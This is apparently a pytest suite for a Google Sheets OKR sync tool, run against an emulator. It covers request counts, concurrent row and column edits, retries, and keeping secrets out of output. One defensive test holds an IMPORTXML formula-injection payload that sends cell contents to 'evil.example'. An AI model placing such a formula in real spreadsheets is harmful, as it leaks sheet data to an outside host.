"""Google Sheets through the real gspread and google-auth code, against the local emulator."""

from __future__ import annotations

import datetime as dt
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from sheets_okr.actions.score import ReadOptions
from sheets_okr.actions.sync import SyncOptions, sync_source
from sheets_okr.cli import cli
from sheets_okr.read import columns as col
from sheets_okr.sources.excel.workbook import ExcelWorkbook
from sheets_okr.sources.grid import CellError, MissingFormulaValue, WorkbookGrid
from sheets_okr.sources.gsheets import sheet as gsheets
from sheets_okr.sources.gsheets.client import RetryPolicy
from tests.support.sheets_emulator import ErrorCell, Formula, LoggedRequest, SheetsEmulator
from tests.support.workbooks import TYPE_HEADER, write_workbook

AS_OF = "2026-11-30"
KEY = "1TrackerKeyForTests_abc"
SOURCE = f"gsheet:{KEY}"
NOW = dt.datetime(2026, 11, 30, 9, 0, tzinfo=dt.UTC)
_ERROR_TYPES = {"#REF!": "REF", "#N/A": "N_A", "#DIV/0!": "DIVIDE_BY_ZERO", "#VALUE!": "VALUE",
                "#NAME?": "NAME", "#NUM!": "NUM", "#NULL!": "NULL_VALUE"}  # fmt: skip
TRACKER: list[list[Any]] = [
    TYPE_HEADER,
    ["Objective", "Increase website traffic", "Sam", "Content"],
    ["Key Result", "Grow visits from 20 to 30", "Lee", None, None, 20, 30, 25, "visits"],
    ["Action", "Publish 4 articles", "Lee", None, None, None, None, None, None, None,
     dt.date(2026, 11, 15), "Done"],
    ["Key Result", "Cut cost per MQL from 180 to 120", "Kim", None, None, 180, 120, 150],
    ["Objective", "Improve the sales pipeline", "Dana", "Demand Gen"],
    ["Key Result", "Win 10 deals", "Dana", None, None, 0, 10, 4],
    ["Key Result", "Book 40 demos", "Dana", None, None, 0, 40, 30],
]  # fmt: skip


INSERTED_KR: list[Any] = ["Key Result", "Inserted while syncing", "Ann", None, None, 0, 10, 5]


@pytest.fixture(autouse=True)
def _fast_retries(monkeypatch: pytest.MonkeyPatch) -> None:
    """Retries wait milliseconds here."""
    policy = RetryPolicy(
        attempts=4, base_delay=0.001, max_delay=0.01, quota_delay=0.001, timeout=(5.0, 30.0)
    )
    monkeypatch.setattr(gsheets, "DEFAULT_RETRY", policy)


def run(*args: str) -> Result:
    """`sheets-okr ARGS` in-process, stdout and stderr kept apart."""
    return CliRunner().invoke(cli, list(args), prog_name="sheets-okr")


def emulated_copy(emu: SheetsEmulator, key: str, grid: WorkbookGrid) -> None:
    """Put every tab of a workbook read by the Excel backend into the emulator."""
    tabs: dict[str, list[list[Any]]] = {}
    for sheet in grid.sheets:
        tabs[sheet.title] = [[_emulated(value) for value in row] for row in sheet.rows]
    emu.create_spreadsheet(key, tabs)


def _emulated(value: object) -> object:
    if isinstance(value, CellError):
        return ErrorCell(_ERROR_TYPES.get(value.code, "ERROR"))
    if isinstance(value, MissingFormulaValue) or value == "":
        return None
    return value


def api_calls(emu: SheetsEmulator) -> list[str]:
    """Each API request as 'METHOD endpoint' (the part after the spreadsheet key)."""
    return [f"{r.method} {r.path.split(KEY, 1)[-1] or '/'}" for r in emu.api_requests]


def tab(emu: SheetsEmulator, title: str) -> list[list[Any]]:
    return [list(row) for row in emu.values(KEY, title)]


def figures_by_title(emu: SheetsEmulator, title: str = "2026-Q4") -> dict[str, tuple[Any, ...]]:
    """Each row's title with its ID, Progress, Score and Health, as the sheet shows them."""
    rows = tab(emu, title)
    header = rows[0]
    where = {name: header.index(col.DISPLAY_NAMES[name]) for name in
             (col.ID, col.PROGRESS, col.SCORE, col.HEALTH)}  # fmt: skip
    title_at = header.index("Title") if "Title" in header else 1
    out = {}
    for row in rows[1:]:
        padded = row + [None] * (len(header) - len(row))
        out[padded[title_at]] = tuple(padded[where[name]] for name in where)
    return out


def test_score_costs_one_request_and_matches_excel(
    tmp_path: Path, google_env: SheetsEmulator
) -> None:
    """`score gsheet:KEY` reads once and prints what `score file.xlsx` prints for the same plan."""
    workbook = tmp_path / "okrs.xlsx"
    assert run("init", str(workbook), "--example", "--as-of", AS_OF).exit_code == 0
    emulated_copy(google_env, KEY, ExcelWorkbook(workbook).read())
    from_excel = run("score", str(workbook), "--as-of", AS_OF, "--format", "json")
    google_env.clear_log()
    from_google = run("score", SOURCE, "--as-of", AS_OF, "--format", "json")
    assert from_google.exit_code == from_excel.exit_code == 0, from_google.output
    excel_data, google_data = json.loads(from_excel.stdout), json.loads(from_google.stdout)
    assert excel_data.pop("source") == str(workbook)
    assert google_data.pop("source") == SOURCE
    assert google_data == excel_data
    assert api_calls(google_env) == ["GET /"]


@pytest.mark.parametrize(
    "command", [("lint",), ("report", "-o", "{tmp}/summary.html"), ("sync", "--dry-run")]
)
def test_reading_commands_cost_one_request(
    google_env: SheetsEmulator, tmp_path: Path, command: tuple[str, ...]
) -> None:
    """lint, report and a dry-run sync read the sheet once and write nothing."""
    google_env.create_spreadsheet(KEY, {"2026-Q4": TRACKER})
    args = [arg.format(tmp=tmp_path) for arg in command]
    result = run(args[0], SOURCE, *args[1:], "--as-of", AS_OF)
    assert result.exit_code in (0, 1), result.output  # lint exits 1 on findings
    assert api_calls(google_env) == ["GET /"]
    if args[0] == "report":
        assert "Increase website traffic" in (tmp_path / "summary.html").read_text()


def test_the_console_script_reads_a_sheet_with_the_environment_only(
    google_env: SheetsEmulator,
) -> None:
    """The installed `sheets-okr`, given only the two environment variables, scores a sheet."""
    google_env.create_spreadsheet(KEY, {"2026-Q4": TRACKER})
    script = Path(sys.executable).with_name("sheets-okr")
    done = subprocess.run(
        [str(script), "score", SOURCE, "--as-of", AS_OF, "--format", "json"],
        capture_output=True, text=True, timeout=60, env=os.environ.copy(), check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    data = json.loads(done.stdout)
    assert [kr["progress"] for o in data["objectives"] for kr in o["key_results"]] == [
        0.5, 0.5, 0.4, 0.75]  # fmt: skip
    assert api_calls(google_env) == ["GET /"]


def test_the_first_sync_writes_what_the_excel_sync_writes(
    tmp_path: Path, google_env: SheetsEmulator
) -> None:
    """Tool columns, Summary, History and Checks hold the same values in both backends."""
    workbook = write_workbook(tmp_path / "okrs.xlsx", {"2026-Q4": TRACKER})
    emulated_copy(google_env, KEY, ExcelWorkbook(workbook).read())
    day = dt.date.fromisoformat(AS_OF)
    sync_source(str(workbook), ReadOptions(day), options=SyncOptions(now=NOW))
    google_env.clear_log()
    result = sync_source(SOURCE, ReadOptions(day), options=SyncOptions(now=NOW))
    assert result.written_to == SOURCE
    assert api_calls(google_env) == ["GET /", "POST :batchUpdate",
                                     "POST /values:batchUpdateByDataFilter"]  # fmt: skip
    synced = ExcelWorkbook(workbook).read()
    for sheet in synced.sheets:
        excel_rows = [_comparable(row) for row in sheet.rows]
        google_rows = [_comparable(row) for row in tab(google_env, sheet.title)]
        assert _trim(google_rows) == _trim(excel_rows), sheet.title
    assert google_env.tab_titles(KEY) == [s.title for s in synced.sheets]


def _comparable(row: list[Any]) -> list[Any]:
    out = [round(v, 9) if isinstance(v, float) else v for v in row]
    out = [v.date() if isinstance(v, dt.datetime) and v.time() == dt.time() else v for v in out]
    out = [int(v) if isinstance(v, float) and v.is_integer() else v for v in out]
    while out and out[-1] in (None, ""):
        out.pop()
    return [None if v == "" else v for v in out]


def _trim(rows: list[list[Any]]) -> list[list[Any]]:
    while rows and not rows[-1]:
        rows.pop()
    return rows


def test_a_steady_sync_is_one_read_and_one_write(google_env: SheetsEmulator) -> None:
    """After the first sync, a changed Current costs 2 requests; nothing changed costs 1."""
    google_env.create_spreadsheet(KEY, {"2026-Q4": TRACKER})
    assert run("sync", SOURCE, "--as-of", AS_OF).exit_code == 0
    google_env.clear_log()
    assert run("sync", SOURCE, "--as-of", AS_OF).exit_code == 0
    assert api_calls(google_env) == ["GET /"]
    google_env.set_cell(KEY, "2026-Q4", "H3", 28)
    google_env.clear_log()
    result = run("sync", SOURCE, "--as-of", AS_OF)
    assert result.exit_code == 0
    assert result.output == ""
    assert api_calls(google_env) == ["GET /", "POST /values:batchUpdateByDataFilter"]
    assert figures_by_title(google_env)["Grow visits from 20 to 30"][1] == pytest.approx(0.8)


def _when(method: str, part: str, action: Any) -> Any:
    """A before_request hook running `action` once, before the first matching request."""
    done: list[bool] = []

    def hook(request: LoggedRequest) -> None:
        if not done and request.method == method and part in request.path:
            done.append(True)
            action()

    return hook


def _expected_progress(emu: SheetsEmulator) -> dict[str, float]:
    """Each KR's progress worked out from its own row's Start, Target and Current."""
    out = {}
    for row in tab(emu, "2026-Q4")[1:]:
        if row[0] == "Key Result" and len(row) > 7 and row[7] is not None:
            start, target, current = row[5], row[6], row[7]
            out[row[1]] = max(0.0, min(1.0, (current - start) / (target - start)))
    return out


def test_rows_inserted_and_moved_between_read_and_write_get_their_own_figures(
    google_env: SheetsEmulator,
) -> None:
    """People insert and move rows while the sync runs: no figure lands on another row."""
    google_env.create_spreadsheet(KEY, {"2026-Q4": TRACKER})
    assert run("sync", SOURCE, "--as-of", AS_OF).exit_code == 0
    for cell, value in (("H3", 29), ("H5", 135), ("H7", 9), ("H8", 10)):
        google_env.set_cell(KEY, "2026-Q4", cell, value)

    def edit() -> None:
        google_env.insert_rows(KEY, "2026-Q4", 1, 2, [["Key Result", "Someone's new KR"]] * 2)
        google_env.move_rows(KEY, "2026-Q4", 8, 9, 4)  # "Win 10 deals" moves up
        google_env.sort_rows(KEY, "2026-Q4", 3, 6, 1)

    google_env.before_request(_when("POST", "batchUpdateByDataFilter", edit))
    assert run("sync", SOURCE, "--as-of", AS_OF).exit_code == 0
    figures = figures_by_title(google_env)
    for title, progress in _expected_progress(google_env).items():
        if title != "Someone's new KR":
            assert figures[title][1] == pytest.approx(progress), title
    assert figures["Someone's new KR"][1:] == (None, None, None)


@pytest.mark.parametrize("unmatched", ["error", "ignore"])
def test_a_row_deleted_between_read_and_write_loses_nothing(
    google_env: SheetsEmulator, unmatched: str
) -> None:
    """A deleted row's figures go nowhere; either nothing is written (exit 75) or the rest is."""
    google_env.unmatched_filter = unmatched
    google_env.create_spreadsheet(KEY, {"2026-Q4": TRACKER})
    assert run("sync", SOURCE, "--as-of", AS_OF).exit_code == 0
    google_env.set_cell(KEY, "2026-Q4", "H3", 29)
    google_env.set_cell(KEY, "2026-Q4", "H7", 9)
    before = tab(google_env, "2026-Q4")
    google_env.before_request(
        _when(
            "POST", "batchUpdateByDataFilter", lambda: google_env.delete_rows(KEY, "2026-Q4", 2, 3)
        )
    )
    result = run("sync", SOURCE, "--as-of", AS_OF)
    rows = tab(google_env, "2026-Q4")
    if unmatched == "error":
        assert result.exit_code == 75, result.output
        assert "rows or columns were deleted while syncing" in result.stderr
        assert rows == before[:2] + before[3:]
    else:
        assert result.exit_code == 0, result.output
        assert figures_by_title(google_env)["Win 10 deals"][1] == pytest.approx(0.9)
    assert "Grow visits from 20 to 30" not in figures_by_title(google_env)


def test_a_row_moved_during_the_first_sync_is_not_written_on_another(
    google_env: SheetsEmulator,
) -> None:
    """Rows inserted before the anchors exist: the tagged rows are checked, none is misfilled."""
    google_env.create_spreadsheet(KEY, {"2026-Q4": TRACKER})
    google_env.before_request(
        _when("POST", ":batchUpdate",
              lambda: google_env.insert_rows(KEY, "2026-Q4", 3, 1, [INSERTED_KR]))
    )  # fmt: skip
    assert run("sync", SOURCE, "--as-of", AS_OF).exit_code == 0
    figures = figures_by_title(google_env)
    assert figures[INSERTED_KR[1]] == (None, None, None, None)
    for title, progress in _expected_progress(google_env).items():
        assert figures[title][1] in (None, pytest.approx(progress)), title
    google_env.before_request(None)
    assert run("sync", SOURCE, "--as-of", AS_OF).exit_code == 0
    figures = figures_by_title(google_env)
    for title, progress in _expected_progress(google_env).items():
        assert figures[title][1] == pytest.approx(progress), title


@pytest.mark.parametrize("edit", ["insert", "delete", "move"])
def test_columns_changed_between_read_and_write_are_put_right(
    google_env: SheetsEmulator, edit: str
) -> None:
    """Columns cannot be anchored: a column inserted or deleted meanwhile is detected from
    the headers, the cells hit are put back and the figures land under their headers."""
    google_env.create_spreadsheet(KEY, {"2026-Q4": TRACKER})
    assert run("sync", SOURCE, "--as-of", AS_OF).exit_code == 0
    google_env.set_cell(KEY, "2026-Q4", "H3", 29)
    google_env.set_cell(KEY, "2026-Q4", "H7", 9)
    change = {
        "insert": lambda: google_env.insert_columns(KEY, "2026-Q4", 1),
        "delete": lambda: google_env.delete_columns(KEY, "2026-Q4", 3, 4),  # Team goes
        "move": lambda: google_env.move_columns(KEY, "2026-Q4", 12, 13, 1),  # ID to B
    }[edit]
    before = tab(google_env, "2026-Q4")
    google_env.before_request(_when("POST", "batchUpdateByDataFilter", change))
    google_env.clear_log()
    result = run("sync", SOURCE, "--as-of", AS_OF)
    if edit == "delete":  # the grid shrank under the write: Google refuses it whole
        assert result.exit_code == 75, result.output
        assert "no value was written" in result.stderr
        google_env.before_request(None)
        assert run("sync", SOURCE, "--as-of", AS_OF).exit_code == 0
        before = [row[:3] + row[4:] for row in before]  # the Team column, deleted
    else:
        assert result.exit_code == 0, result.output
        assert api_calls(google_env) == ["GET /"] + ["POST /values:batchUpdateByDataFilter"] * 2
    after = tab(google_env, "2026-Q4")
    header = after[0]
    for number, row in enumerate(after):
        for index, name in enumerate(header):
            if name in ("Type", "Title", "Start", "Target", "Current", "ID", "Status", "Due"):
                old_row = before[number]
                old_index = before[0].index(name)
                old = old_row[old_index] if old_index < len(old_row) else None
                new = row[index] if index < len(row) else None
                expected = 29 if (number, name) == (2, "Current") else old
                expected = 9 if (number, name) == (6, "Current") else expected
                assert new == expected, (number, name)
    figures = figures_by_title(google_env)
    assert figures["Grow visits from 20 to 30"][1] == pytest.approx(0.9)
    assert figures["Win 10 deals"][1] == pytest.approx(0.9)
    google_env.before_request(None)
    assert run("sync", SOURCE, "--as-of", AS_OF).exit_code == 0  # the checks' cells moved
    google_env.clear_log()
    assert run("sync", SOURCE, "--as-of", AS_OF).exit_code == 0
    assert api_calls(google_env) == ["GET /"]


def test_a_formula_a_moved_column_put_under_the_write_is_named(
    google_env: SheetsEmulator,
) -> None:
    """A people's formula hit by the write cannot come back as a formula (values are RAW):
    its value is put back and the message names the cell; exit 75."""
    rows = [[*row, None, None, None, None][:12] for row in TRACKER]
    rows[0] = [*TYPE_HEADER, "Calc"]
    for number in range(1, len(rows)):
        rows[number] = [*rows[number], Formula(f"=ROW()*{number}", value=number * (number + 1))]
    google_env.create_spreadsheet(KEY, {"2026-Q4": rows})
    assert run("sync", SOURCE, "--as-of", AS_OF).exit_code == 0
    google_env.set_cell(KEY, "2026-Q4", "H3", 29)
    google_env.before_request(
        _when("POST", "batchUpdateByDataFilter",
              lambda: google_env.move_columns(KEY, "2026-Q4", 12, 13, 16))  # Calc into the tools
    )  # fmt: skip
    result = run("sync", SOURCE, "--as-of", AS_OF)
    assert result.exit_code == 75, result.output
    assert "a formula or an error was there" in result.stderr
    header = tab(google_env, "2026-Q4")[0]
    calc = header.index("Calc")
    assert tab(google_env, "2026-Q4")[2][calc] == 6  # its value is back
    assert f"{chr(ord('A') + calc)}3" in result.stderr


def test_values_sorted_under_the_row_tags_are_put_back(google_env: SheetsEmulator) -> None:
    """Should a sort move values and not rows, the rows hit are put back as read, exit 75,
    and the next sync re-tags them and writes every figure on its own row."""
    google_env.create_spreadsheet(KEY, {"2026-Q4": TRACKER})
    assert run("sync", SOURCE, "--as-of", AS_OF).exit_code == 0
    google_env.set_cell(KEY, "2026-Q4", "H7", 9)
    google_env.set_cell(KEY, "2026-Q4", "H8", 20)
    rows = tab(google_env, "2026-Q4")
    width = len(rows[0])

    def swap_values() -> None:  # rows 7 and 8 trade contents; their tags stay
        for index in range(width):
            letter = chr(ord("A") + index)
            for number, source in ((7, 7), (8, 6)):
                row = rows[source]
                google_env.set_cell(KEY, "2026-Q4", f"{letter}{number}",
                                    row[index] if index < len(row) else None)  # fmt: skip

    google_env.before_request(_when("POST", "batchUpdateByDataFilter", swap_values))
    result = run("sync", SOURCE, "--as-of", AS_OF)
    assert result.exit_code == 75, result.output
    assert "rows were sorted" in result.stderr
    assert tab(google_env, "2026-Q4")[6:8] == [rows[7], rows[6]]  # as the person left them
    google_env.before_request(None)
    assert run("sync", SOURCE, "--as-of", AS_OF).exit_code == 0
    figures = figures_by_title(google_env)
    assert figures["Win 10 deals"][1] == pytest.approx(0.9)
    assert figures["Book 40 demos"][1] == pytest.approx(0.5)


def test_tool_tab_ranges_are_bounded_to_the_values_they_carry(google_env: SheetsEmulator) -> None:
    """Each Summary, History and Checks range names its last cell: Google refuses values
    larger than the range a data filter matches."""
    google_env.create_spreadsheet(KEY, {"2026-Q4": TRACKER})
    assert run("sync", SOURCE, "--as-of", AS_OF).exit_code == 0
    write = next(r for r in google_env.api_requests if "ByDataFilter" in r.path)
    ranges = [d for d in write.body["data"] if "a1Range" in d["dataFilter"]]
    assert {d["dataFilter"]["a1Range"].split("!")[0] for d in ranges} == {
        "'Summary'", "'History'", "'Checks'"}  # fmt: skip
    for entry in ranges:
        first, last = entry["dataFilter"]["a1Range"].split("!")[1].split(":")
        height = int(last.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")) - int(first[1:]) + 1
        assert height == len(entry["values"])


def test_a_stale_anchor_is_replaced_and_its_row_still_gets_its_own_figures(
    google_env: SheetsEmulator,
) -> None:
    """Rows tagged with each other's keys (a copy, an old run) are re-tagged, not trusted."""
    rows = [[*row, None, None, None, None][:12] for row in TRACKER]
    rows[0] = [*TYPE_HEADER, "ID"]
    rows[6] = [*rows[6], "KR-WIN"]
    rows[7] = [*rows[7], "KR-DEMOS"]
    google_env.create_spreadsheet(KEY, {"2026-Q4": rows})
    google_env.add_row_metadata(KEY, "2026-Q4", 6, "okr-row", "KR-DEMOS")
    google_env.add_row_metadata(KEY, "2026-Q4", 7, "okr-row", "KR-WIN")
    assert run("sync", SOURCE, "--as-of", AS_OF).exit_code == 0
    figures = figures_by_title(google_env)
    assert figures["Win 10 deals"][:2] == ("KR-WIN", pytest.approx(0.4))
    assert figures["Book 40 demos"][:2] == ("KR-DEMOS", pytest.approx(0.75))
    tags = [
        (m["metadataValue"], m["location"]["dimensionRange"]["startIndex"])
        for m in google_env.metadata(KEY)
        if m["metadataValue"] in ("KR-WIN", "KR-DEMOS")
    ]
    assert sorted(tags) == [("KR-DEMOS", 7), ("KR-WIN", 6)]


def test_text_that_looks_like_a_formula_stays_text(google_env: SheetsEmulator) -> None:
    """Titles starting with = + - @ are written RAW: the sheet never gains a formula."""
    rows = [list(r) for r in TRACKER]
    rows[2][1] = '=IMPORTXML("http://evil.example/?"&A1,"//a")'
    rows[4][1] = "+1 cost per MQL"
    google_env.create_spreadsheet(KEY, {"2026-Q4": rows})
    assert run("sync", SOURCE, "--as-of", AS_OF).exit_code == 0
    assert google_env.formulas_created_via_api == []
    writes = [r for r in google_env.api_requests if "values:" in r.path]
    assert writes
    assert all(r.body["valueInputOption"] == "RAW" for r in writes)
    summary = [cell for row in tab(google_env, "Summary") for cell in row]
    assert rows[2][1] not in summary  # objective titles only; KR titles are in History
    history = [cell for row in tab(google_env, "History") for cell in row]
    assert rows[2][1] in history
    assert "+1 cost per MQL" in history


def test_error_cells_are_problems_with_their_cell_and_nothing_is_written(
    google_env: SheetsEmulator,
) -> None:
    """A #REF! in Current is reported by tab and cell, exit 1, and the sheet stays as it was."""
    rows = [list(r) for r in TRACKER]
    rows[2][7] = ErrorCell("REF")
    google_env.create_spreadsheet(KEY, {"2026-Q4": rows})
    result = run("sync", SOURCE, "--as-of", AS_OF)
    assert result.exit_code == 1
    assert "H3" in result.stderr
    assert "#REF!" in result.stderr
    assert api_calls(google_env) == ["GET /"]


def test_quota_errors_are_retried_then_succeed(google_env: SheetsEmulator) -> None:
    """Two 429s on the read and a 503 on the write are retried; the sync completes."""
    google_env.create_spreadsheet(KEY, {"2026-Q4": TRACKER})
    assert run("sync", SOURCE, "--as-of", AS_OF).exit_code == 0
    google_env.set_cell(KEY, "2026-Q4", "H3", 29)
    google_env.fail_next(429, 2, method="GET")
    google_env.fail_next(503, 1, method="POST")
    google_env.clear_log()
    assert run("sync", SOURCE, "--as-of", AS_OF).exit_code == 0
    assert [r.status for r in google_env.api_requests] == [429, 429, 200, 503, 200]
    assert figures_by_title(google_env)["Grow visits from 20 to 30"][1] == pytest.approx(0.9)


def test_a_lasting_outage_gives_up_with_exit_75_and_changes_nothing(
    google_env: SheetsEmulator,
) -> None:
    """Quota errors that do not stop end the run after a bounded number of tries: exit 75."""
    google_env.create_spreadsheet(KEY, {"2026-Q4": TRACKER})
    assert run("sync", SOURCE, "--as-of", AS_OF).exit_code == 0
    google_env.set_cell(KEY, "2026-Q4", "H3", 29)
    before = tab(google_env, "2026-Q4")
    google_env.fail_next(429, 100, method="POST")
    google_env.clear_log()
    result = run("sync", SOURCE, "--as-of", AS_OF)
    assert result.exit_code == 75
    assert "quota exceeded" in result.stderr
    assert "run again later" in result.stderr
    assert api_calls(google_env) == ["GET /"] + ["POST /values:batchUpdateByDataFilter"] * 4
    assert tab(google_env, "2026-Q4") == before


def test_a_structural_call_is_not_repeated_after_a_server_error(
    google_env: SheetsEmulator,
) -> None:
    """A 500 on the first sync's batchUpdate may have been applied: no blind retry, exit 75."""
    google_env.create_spreadsheet(KEY, {"2026-Q4": TRACKER})
    google_env.fail_next(500, 1, path_contains=":batchUpdate")
    result = run("sync", SOURCE, "--as-of", AS_OF)
    assert result.exit_code == 75
    assert api_calls(google_env) == ["GET /", "POST :batchUpdate"]
    assert run("sync", SOURCE, "--as-of", AS_OF).exit_code == 0


def test_a_hung_request_times_out_and_is_retried(
    google_env: SheetsEmulator, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A read that never answers is abandoned after the read timeout and tried again."""
    policy = RetryPolicy(
        attempts=4, base_delay=0.001, max_delay=0.01, quota_delay=0.001, timeout=(5.0, 1.0)
    )
    monkeypatch.setattr(gsheets, "DEFAULT_RETRY", policy)
    google_env.create_spreadsheet(KEY, {"2026-Q4": TRACKER})
    google_env.hang_next(3.0)
    result = run("score", SOURCE, "--as-of", AS_OF, "--format", "json")
    assert result.exit_code == 0, result.output
    assert len(google_env.api_requests) == 2


def test_a_sheet_not_shared_names_the_service_account(
    google_env: SheetsEmulator, service_account_key: Path
) -> None:
    """403: the message names the account's email to share the sheet with; exit 2."""
    google_env.create_spreadsheet(KEY, {"2026-Q4": TRACKER}, shared_with=["someone@else.com"])
    result = run("score", SOURCE, "--as-of", AS_OF)
    email = json.loads(service_account_key.read_text())["client_email"]
    assert result.exit_code == 2
    assert f"Share the sheet with {email}" in result.stderr
    assert "PRIVATE KEY" not in result.output


def test_an_unknown_spreadsheet_says_so(google_env: SheetsEmulator) -> None:
    """404: no such spreadsheet, exit 2, the key named."""
    result = run("score", "gsheet:NoSuchSpreadsheetKey", "--as-of", AS_OF)
    assert result.exit_code == 2
    assert "gsheet:NoSuchSpreadsheetKey: no such spreadsheet" in result.stderr


def test_a_key_the_token_endpoint_refuses_is_reported(
    google_env: SheetsEmulator, tmp_path: Path
) -> None:
    """A key signed by another private key is refused at the token endpoint: exit 2, clearly."""
    other = SheetsEmulator()
    try:
        info = other.service_account("stranger@example-project.iam.gserviceaccount.com")
    finally:
        other.stop()
    info["token_uri"] = google_env.token_uri
    key = tmp_path / "stranger.json"
    key.write_text(json.dumps(info))
    google_env.create_spreadsheet(KEY, {"2026-Q4": TRACKER})
    result = run("score", SOURCE, "--credentials", str(key), "--as-of", AS_OF)
    assert result.exit_code == 2, result.output
    assert "token endpoint refused" in result.stderr
    assert info["private_key"].splitlines()[1] not in result.output


def test_no_secret_reaches_the_output_even_when_debugging(
    google_env: SheetsEmulator, service_account_key: Path
) -> None:
    """With -vv, neither the private key, a signed JWT nor an access token is printed."""
    google_env.create_spreadsheet(KEY, {"2026-Q4": TRACKER})
    done = subprocess.run(
        [str(Path(sys.executable).with_name("sheets-okr")), "-vv", "sync", SOURCE],
        capture_output=True, text=True, timeout=60, env=os.environ.copy(), check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    output = done.stdout + done.stderr
    assert "DEBUG" in output  # debugging was on
    private_key = json.loads(service_account_key.read_text())["private_key"]
    for line in private_key.splitlines()[1:-1]:
        assert line not in output
    assert "eyJ" not in output  # the start of every JWT
    assert "Bearer" not in output
    assert "access_token" not in output


def test_a_sheet_url_works_like_its_key(google_env: SheetsEmulator) -> None:
    """The address copied from the browser reads the same spreadsheet."""
    google_env.create_spreadsheet(KEY, {"2026-Q4": TRACKER})
    url = f"https://docs.google.com/spreadsheets/d/{KEY}/edit#gid=0"
    result = run("score", url, "--as-of", AS_OF, "--format", "json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["source"] == SOURCE


def test_tool_columns_get_percent_formats_and_health_colours(google_env: SheetsEmulator) -> None:
    """Progress shows as a percentage and Health has its colour rules after the first sync."""
    google_env.create_spreadsheet(KEY, {"2026-Q4": TRACKER})
    assert run("sync", SOURCE, "--as-of", AS_OF).exit_code == 0
    header = tab(google_env, "2026-Q4")[0]
    progress = header.index("Progress")
    cell = google_env.cell(KEY, "2026-Q4", f"{chr(ord('A') + progress)}3")
    assert cell.formatted == "50%"
    rules = google_env.conditional_formats(KEY, "2026-Q4")
    assert {r["booleanRule"]["condition"]["values"][0]["userEnteredValue"] for r in rules} >= {
        "on_track", "at_risk", "off_track"}  # fmt: skip
    assert google_env.sheet_properties(KEY, "History")["gridProperties"]["frozenRowCount"] == 1


def _people_s_scores() -> list[list[Any]]:
    """TRACKER with a Score column (M) of the team's own formulas on every key-result row."""
    rows = [[*row, None, None, None, None][:12] for row in TRACKER]
    rows[0] = [*TYPE_HEADER, "Score"]
    for number, row in enumerate(rows[1:], start=2):
        if row[0] == "Key Result":
            row.append(Formula(f"=IFERROR((H{number}-F{number})/(G{number}-F{number}),0)", 0.25))
    return rows


def test_people_s_score_formulas_are_never_written_over(google_env: SheetsEmulator) -> None:
    """Score formulas, formats and colours stay through two syncs; ours is added once."""
    rows = _people_s_scores()
    google_env.create_spreadsheet(KEY, {"2026-Q4": rows})
    grid = gsheets.GoogleSheet(KEY).read()
    assert grid.sheets[0].formulas == frozenset({(2, 12), (4, 12), (6, 12), (7, 12)})
    formulas = {f"M{n}": row[12] for n, row in enumerate(rows, start=1) if len(row) > 12}
    assert run("sync", SOURCE, "--as-of", AS_OF).exit_code == 0
    google_env.set_cell(KEY, "2026-Q4", "H3", 28)
    result = run("sync", SOURCE, "--as-of", "2026-12-07")
    assert result.exit_code == 0, result.output
    for a1, formula in formulas.items():
        kept = google_env.cell(KEY, "2026-Q4", a1)
        assert kept.user_entered == formula, a1
        assert kept.number_format is None, a1
    header = tab(google_env, "2026-Q4")[0]
    assert header[12:] == ["Score", "ID", "Progress", "Score (sheets-okr)", "Expected", "Health"]
    ours = header.index("Score (sheets-okr)")
    assert tab(google_env, "2026-Q4")[2][ours] == pytest.approx(0.8)
    assert google_env.cell(KEY, "2026-Q4", f"{chr(ord('A') + ours)}3").formatted == "80%"
    rule_columns = {
        grid_range["startColumnIndex"]
        for rule in google_env.conditional_formats(KEY, "2026-Q4")
        for grid_range in rule["ranges"]
    }
    assert rule_columns == {header.index("Health")}
    assert google_env.formulas_created_via_api == []


def test_a_column_inserted_while_syncing_leaves_people_s_formulas_in_place(
    google_env: SheetsEmulator,
) -> None:
    """A column inserted mid-write: figures land under their headers, formulas stay."""
    rows = _people_s_scores()
    google_env.create_spreadsheet(KEY, {"2026-Q4": rows})
    assert run("sync", SOURCE, "--as-of", AS_OF).exit_code == 0
    google_env.set_cell(KEY, "2026-Q4", "H3", 29)
    google_env.before_request(
        _when("POST", "batchUpdateByDataFilter",
              lambda: google_env.insert_columns(KEY, "2026-Q4", 1))
    )  # fmt: skip
    result = run("sync", SOURCE, "--as-of", AS_OF)
    assert result.exit_code == 0, result.output
    header = tab(google_env, "2026-Q4")[0]
    assert header[13:] == ["Score", "ID", "Progress", "Score (sheets-okr)", "Expected", "Health"]
    for number, row in enumerate(rows, start=1):
        if len(row) > 12:
            assert google_env.cell(KEY, "2026-Q4", f"N{number}").user_entered == row[12]
    visits = tab(google_env, "2026-Q4")[2]
    assert visits[header.index("Progress")] == pytest.approx(0.9)
    assert visits[header.index("Score (sheets-okr)")] == pytest.approx(0.9)


def test_a_full_grid_grows_before_the_tool_columns_are_added(google_env: SheetsEmulator) -> None:
    """A tab whose last column is in use gets more columns, in the one structural call."""
    rows = [list(r) + [None] * (26 - len(r)) for r in TRACKER]
    rows[0][25] = "Notes"
    google_env.create_spreadsheet(KEY, {"2026-Q4": rows})
    assert run("sync", SOURCE, "--as-of", AS_OF).exit_code == 0
    assert tab(google_env, "2026-Q4")[0][26:31] == ["ID", "Progress", "Score", "Expected",
                                                    "Health"]  # fmt: skip


def test_korean_tabs_and_headers_sync(google_env: SheetsEmulator) -> None:
    """A Korean tab name with a space and Korean headers read and write like English ones."""
    header = ["유형", "제목", "담당자", "팀", "분기", "시작값", "목표값", "현재값"]
    objective = ["목표", "웹사이트 방문 늘리기"]
    key_result = ["핵심 결과", "방문 20에서 30으로", None, None, None, 20, 30, 25]
    rows: list[list[Any]] = [header, objective, key_result]
    google_env.create_spreadsheet(KEY, {"핵심 결과's 탭": rows})
    result = run("sync", SOURCE, "--as-of", AS_OF)
    assert result.exit_code == 0, result.output
    written = tab(google_env, "핵심 결과's 탭")
    assert 0.5 in written[2]


@pytest.mark.skipif(
    not os.environ.get("SHEETS_OKR_LIVE_SHEET"),
    reason="opt-in: set SHEETS_OKR_LIVE_SHEET and GOOGLE_APPLICATION_CREDENTIALS for a real sheet",
)
def test_live_google_sheet_reads_in_one_request() -> None:
